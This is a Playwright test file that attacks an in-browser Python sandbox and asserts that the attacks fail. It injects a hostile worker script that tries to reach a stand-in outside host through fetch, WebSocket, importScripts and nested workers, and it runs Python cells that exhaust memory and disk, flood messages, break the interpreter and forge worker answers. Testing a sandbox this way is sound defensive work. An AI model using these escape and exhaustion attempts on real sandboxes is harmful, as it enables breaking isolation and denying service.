"""What a reader's code may not do in the page, and what becomes of it.

Each attack stands beside what shows that it would have worked.
"""

import http.server
import json
import re
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page, expect
from pytest_playwright.pytest_playwright import CreateContextCallback

from tests.cells import (
    AS_PRINTED,
    block,
    button,
    change,
    edit,
    forget,
    run,
    status,
)
from tests.visiting import Visit, go, visit

pytestmark = pytest.mark.xdist_group("bounds")

CRASHED = "Python crashed, and has been started afresh."

# The page counts what its worker tells it, and can be told a lie.
LISTENING = """
    Object.assign(window, { heard: {}, forged: undefined });
    window.Worker = class extends Worker {
        set onmessage(hear) {
            super.onmessage = (event) => {
                const { type } = event.data;
                window.heard[type] = (window.heard[type] ?? 0) + 1;
                const lies = type === "answer" && window.forged !== undefined;
                const data = { type, answer: window.forged, sound: true };
                hear(lies ? { data } : event);
            };
        }
    };
"""


@pytest.fixture(scope="module")
def opened(browser: Browser, served: str) -> Iterator[Visit]:
    """One browser window, in which the worker is kept."""
    with visit(browser.new_context, f"{served}3.3/") as opened:
        opened.page.add_init_script(LISTENING)
        opened.page.reload()
        yield opened


@pytest.fixture
def page(opened: Visit) -> Page:
    """The page on softmax, as if opened for the first time."""
    opened.page.evaluate("forged = undefined")
    forget(opened.page)
    go(opened.page, "3.3/softmax/")
    return opened.page


def attack(page: Page, source: str) -> None:
    """Run a source, and put the page back."""
    change(page, 1, source)
    button(page, "Run", 1).click()
    expect(status(page, 1)).to_have_text(re.compile("^Ran|^Python crashed"))
    restore(page)


def restore(page: Page) -> None:
    button(page, "Reset", 1).click()
    run(page, 1)
    expect(status(page, 1)).to_have_text(AS_PRINTED)


REACHES = """
    const attempts = {
        fetch: () => fetch(`${other}fetch-${when}`, { mode: "no-cors" }),
        request() {
            const request = new XMLHttpRequest();
            request.open("GET", `${other}request-${when}`, false);
            request.send();
        },
        socket: () => new WebSocket(`${other}socket-${when}`),
        events: () => new EventSource(`${other}events-${when}`),
        module: () => import(`${other}module-${when}.js`),
        classic: () => importScripts(`${other}classic-${when}.js`),
        nested: () => new Worker(`${site}attack.js#${other}nested-${when}`),
        shared: () => new SharedWorker(`${site}attack.js#${other}x`),
        page: () => new BroadcastChannel("page").postMessage(1),
        forge: () => postMessage(1),
        keep: () => [caches, indexedDB][0].open("x"),
        end: () => (when === "late" ? close() : 0),
    };
    const did = {};
    for (const [name, attempt] of Object.entries(attempts)) {
        try {
            await attempt();
            did[name] = "done";
        } catch (error) {
            did[name] = error.name;
        }
    }
    const names = Object.getOwnPropertyNames(self);
    tell({ type: "tried", when, did, names });
"""

# The worker's script, with an attacker at its end that stands in its scope.
ATTACKER = f"""
const tell = postMessage.bind(self);
const attack = async (when) => {{ {REACHES} }};
addEventListener("message", ({{ data }}) => data.module && attack("late"));
attack("early");
"""
INFILTRATED = """
    window.tried = [];
    window.Blob = class extends Blob {
        constructor(parts, options) {
            const is = options?.type === "text/javascript";
            super(is ? [...parts, ATTACKER] : parts, options);
        }
    };
    window.Worker = class extends Worker {
        constructor(...given) {
            super(...given);
            this.addEventListener("message", ({ data }) => {
                if (data.type === "tried") window.tried.push(data);
            });
        }
    };
"""

# A worker of its own, from an address: no policy binds it.
UNBOUND = """
    const other = location.hash.slice(1);
    fetch(other, { mode: "no-cors" }).then(() => postMessage("reached"));
"""


@contextmanager
def listening() -> Iterator[tuple[str, list[str]]]:
    """Another host: its address, and what was asked of it."""
    asked: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(204)
            self.end_headers()

        def log_message(self, *_: object) -> None: ...

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{server.server_port}/", asked
        server.shutdown()


def test_whoever_stands_in_the_worker_reaches_nothing_once_python_runs(
    new_context: CreateContextCallback, served: str, root: Path
) -> None:
    (root / "attack.js").write_text(UNBOUND, encoding="utf-8")
    site = served.removesuffix("book/")
    with (
        listening() as (other, asked),
        visit(new_context, f"{served}3.3/softmax/") as opened,
    ):
        known = f"const other = '{other}', site = '{site}';"
        script = INFILTRATED.replace("ATTACKER", json.dumps(known + ATTACKER))
        opened.page.add_init_script(script)
        opened.page.reload()
        run(opened.page, 1)
        both = (
            "() => new Promise((done) => setInterval(() => {"
            "window.tried.length > 1 && done(window.tried) }, 50))"
        )
        early, late, *_ = opened.page.evaluate(both)
        opened.page.wait_for_timeout(500)
    assert (early["when"], late["when"]) == ("early", "late")
    assert {*asked} == {"/nested-early"}, "only what came before Python"
    assert early["did"]["nested"] == early["did"]["keep"] == "done"
    assert set(late["did"].values()) == {"ReferenceError", "TypeError"}
    assert late["did"]["module"] == "TypeError", "the policy forbids it"
    assert not {"Worker", "fetch", "onmessage"} & set(late["names"])


def test_the_workers_script_runs_in_no_other_worker(
    page: Page, served: str
) -> None:
    start = """(address) => new Promise((done) => {
        const worker = new Worker(address, { type: "module" });
        worker.addEventListener("error", () => done("refused"));
        worker.addEventListener("message", ({ data }) => done(data.type));
        worker.postMessage({});
    })"""
    script = f"{served}javascripts/live/worker.js"
    assert page.evaluate(start, script) == "refused"
    blob = f"""() => ({start})(URL.createObjectURL(new Blob(
        ['import "{script}"'], {{ type: "text/javascript" }})))"""
    assert page.evaluate(blob) == "progress"


HELD = "kept = [to_js(bytes(10 ** 7)) for i in range({})]"
STORED = (
    "for i in range({}):\n    open(f'/tmp/{{i}}', 'wb').write(bytes(10 ** 7))"
)


@pytest.mark.parametrize(
    ("source", "said"),
    [
        ("import js\njs.Worker", "AttributeError"),
        ("import js\njs.postMessage(1)", "AttributeError"),
        ("import pyodide_js\npyodide_js.FS", "AttributeError"),
        ("from inpage import interpreter as it\nit.emit.call", "Attr"),
        (f"from pyodide.ffi import to_js\n{HELD.format(100)}", "no memory is"),
        (STORED.format(100), "No space left on device"),
    ],
)
def test_a_cell_sees_nothing_of_the_browser(
    page: Page, source: str, said: str
) -> None:
    edit(page, 1, source)
    results = block(page, 1).locator(".live-results")
    expect(results).to_contain_text(said)
    restore(page)


@pytest.mark.parametrize(
    "source",
    [f"from pyodide.ffi import to_js\n{HELD.format(3)}", STORED.format(3)],
)
def test_what_fits_may_stand_beside_pythons_memory(
    page: Page, source: str
) -> None:
    edit(page, 1, source)
    assert "Error" not in block(page, 1).inner_text()
    restore(page)


FLOODS = """\
from inpage import interpreter
for i in range({}):
    try: interpreter.emit("z" * 1000)
    except Exception: pass"""


@pytest.mark.parametrize(("count", "most"), [(10, 10), (1000, 30)])
def test_messages_have_a_limit_beside_print(
    page: Page, count: int, most: int
) -> None:
    page.evaluate("heard.output = 0")
    edit(page, 1, FLOODS.format(count))
    heard = page.evaluate("heard.output")
    restore(page)
    assert min(count, most) - 1 <= heard <= most


def test_lists_made_outside_pythons_memory_end_in_a_fresh_python(
    page: Page,
) -> None:
    button(page, "Edit", 1).click()
    made = (
        "from pyodide.ffi import to_js\nwhile True: it = to_js([0] * 10 ** 6)"
    )
    block(page, 1).locator("textarea").fill(made)
    button(page, "Run", 1).click()
    expect(status(page, 1)).to_have_text(CRASHED)
    restore(page)


@pytest.mark.parametrize(
    "source",
    [
        "import sys; sys.modules.clear()",
        "from inpage import interpreter; interpreter.emit = None",
        "from inpage import interpreter; interpreter.run = None",
        "import builtins; builtins.print = None",
        "import sys; sys.meta_path.clear(); sys.path.clear()",
        "raise ValueError('x' * 10 ** 7)",
    ],
)
def test_after_what_breaks_python_the_next_run_finds_another(
    page: Page, source: str
) -> None:
    attack(page, source)


@pytest.mark.parametrize("forged", ["7", "null", "{}", "'text'"])
def test_a_forged_answer_ends_in_a_fresh_python(
    page: Page, forged: str
) -> None:
    page.evaluate(f"forged = {forged}")
    button(page, "Run", 2).click()
    expect(status(page, 2)).to_have_text(CRASHED)
    page.evaluate("forged = undefined")
    run(page, 2)
    expect(status(page, 2)).to_have_text(AS_PRINTED)


def test_what_the_page_itself_cannot_show_does_not_run_for_ever(
    page: Page,
) -> None:
    page.evaluate("forged = { value: 7 }")
    button(page, "Run", 3).click()
    expect(status(page, 3)).to_have_text(
        re.compile("^In block 1: TypeError: ")
    )
    page.evaluate("forged = undefined")
    run(page, 3)
    expect(status(page, 3)).to_have_text(AS_PRINTED)


@pytest.mark.parametrize("file", ["python_stdlib.zip", "worker.js"])
def test_a_download_that_never_answers_says_so(
    new_context: CreateContextCallback, served: str, file: str
) -> None:
    with visit(new_context, f"{served}3.3/softmax/") as opened:
        page = opened.page
        page.route(f"**/{file}", lambda _: None)
        button(page, "Run", 1).click()
        button(page, "Stop", 1).click()
        expect(status(page, 1)).to_have_text("Stopped.")
        page.evaluate("scale = 0.1")
        button(page, "Run", 1).click()
        said = "Python could not be loaded: nothing came for 30 seconds."
        expect(status(page, 1)).to_have_text(said)
        page.unroute(f"**/{file}")
        page.evaluate("scale = 10")
        button(page, "Retry", 1).click()
        expect(status(page, 1)).to_have_text(AS_PRINTED)


def test_a_python_that_has_started_is_kept_for_the_next_visit(
    new_context: CreateContextCallback, served: str
) -> None:
    draw = "import random\nprint(random.random())"
    drawn = set()
    with visit(new_context, f"{served}3.3/softmax/") as opened:
        page = opened.page
        sizes = []
        for _ in range(2):
            run(page, 1)
            edit(page, 2, draw)
            drawn.add(block(page, 2).locator(".live-now").first.inner_text())
            sizes.append(page.evaluate(KEPT_SIZES))
            page.reload()
            button(page, "Reset", 2).click()
        assert len(drawn) == 2, "two Pythons draw the same numbers"
        assert sizes[0] == sizes[1] != []
        assert sizes[0][0] > 10**6


KEPT_SIZES = """async () => {
    const cache = await caches.open("attnbook python");
    const kept = [];
    for (const it of await cache.keys()) {
        kept.push((await (await cache.match(it)).blob()).size);
    }
    return kept;
}"""
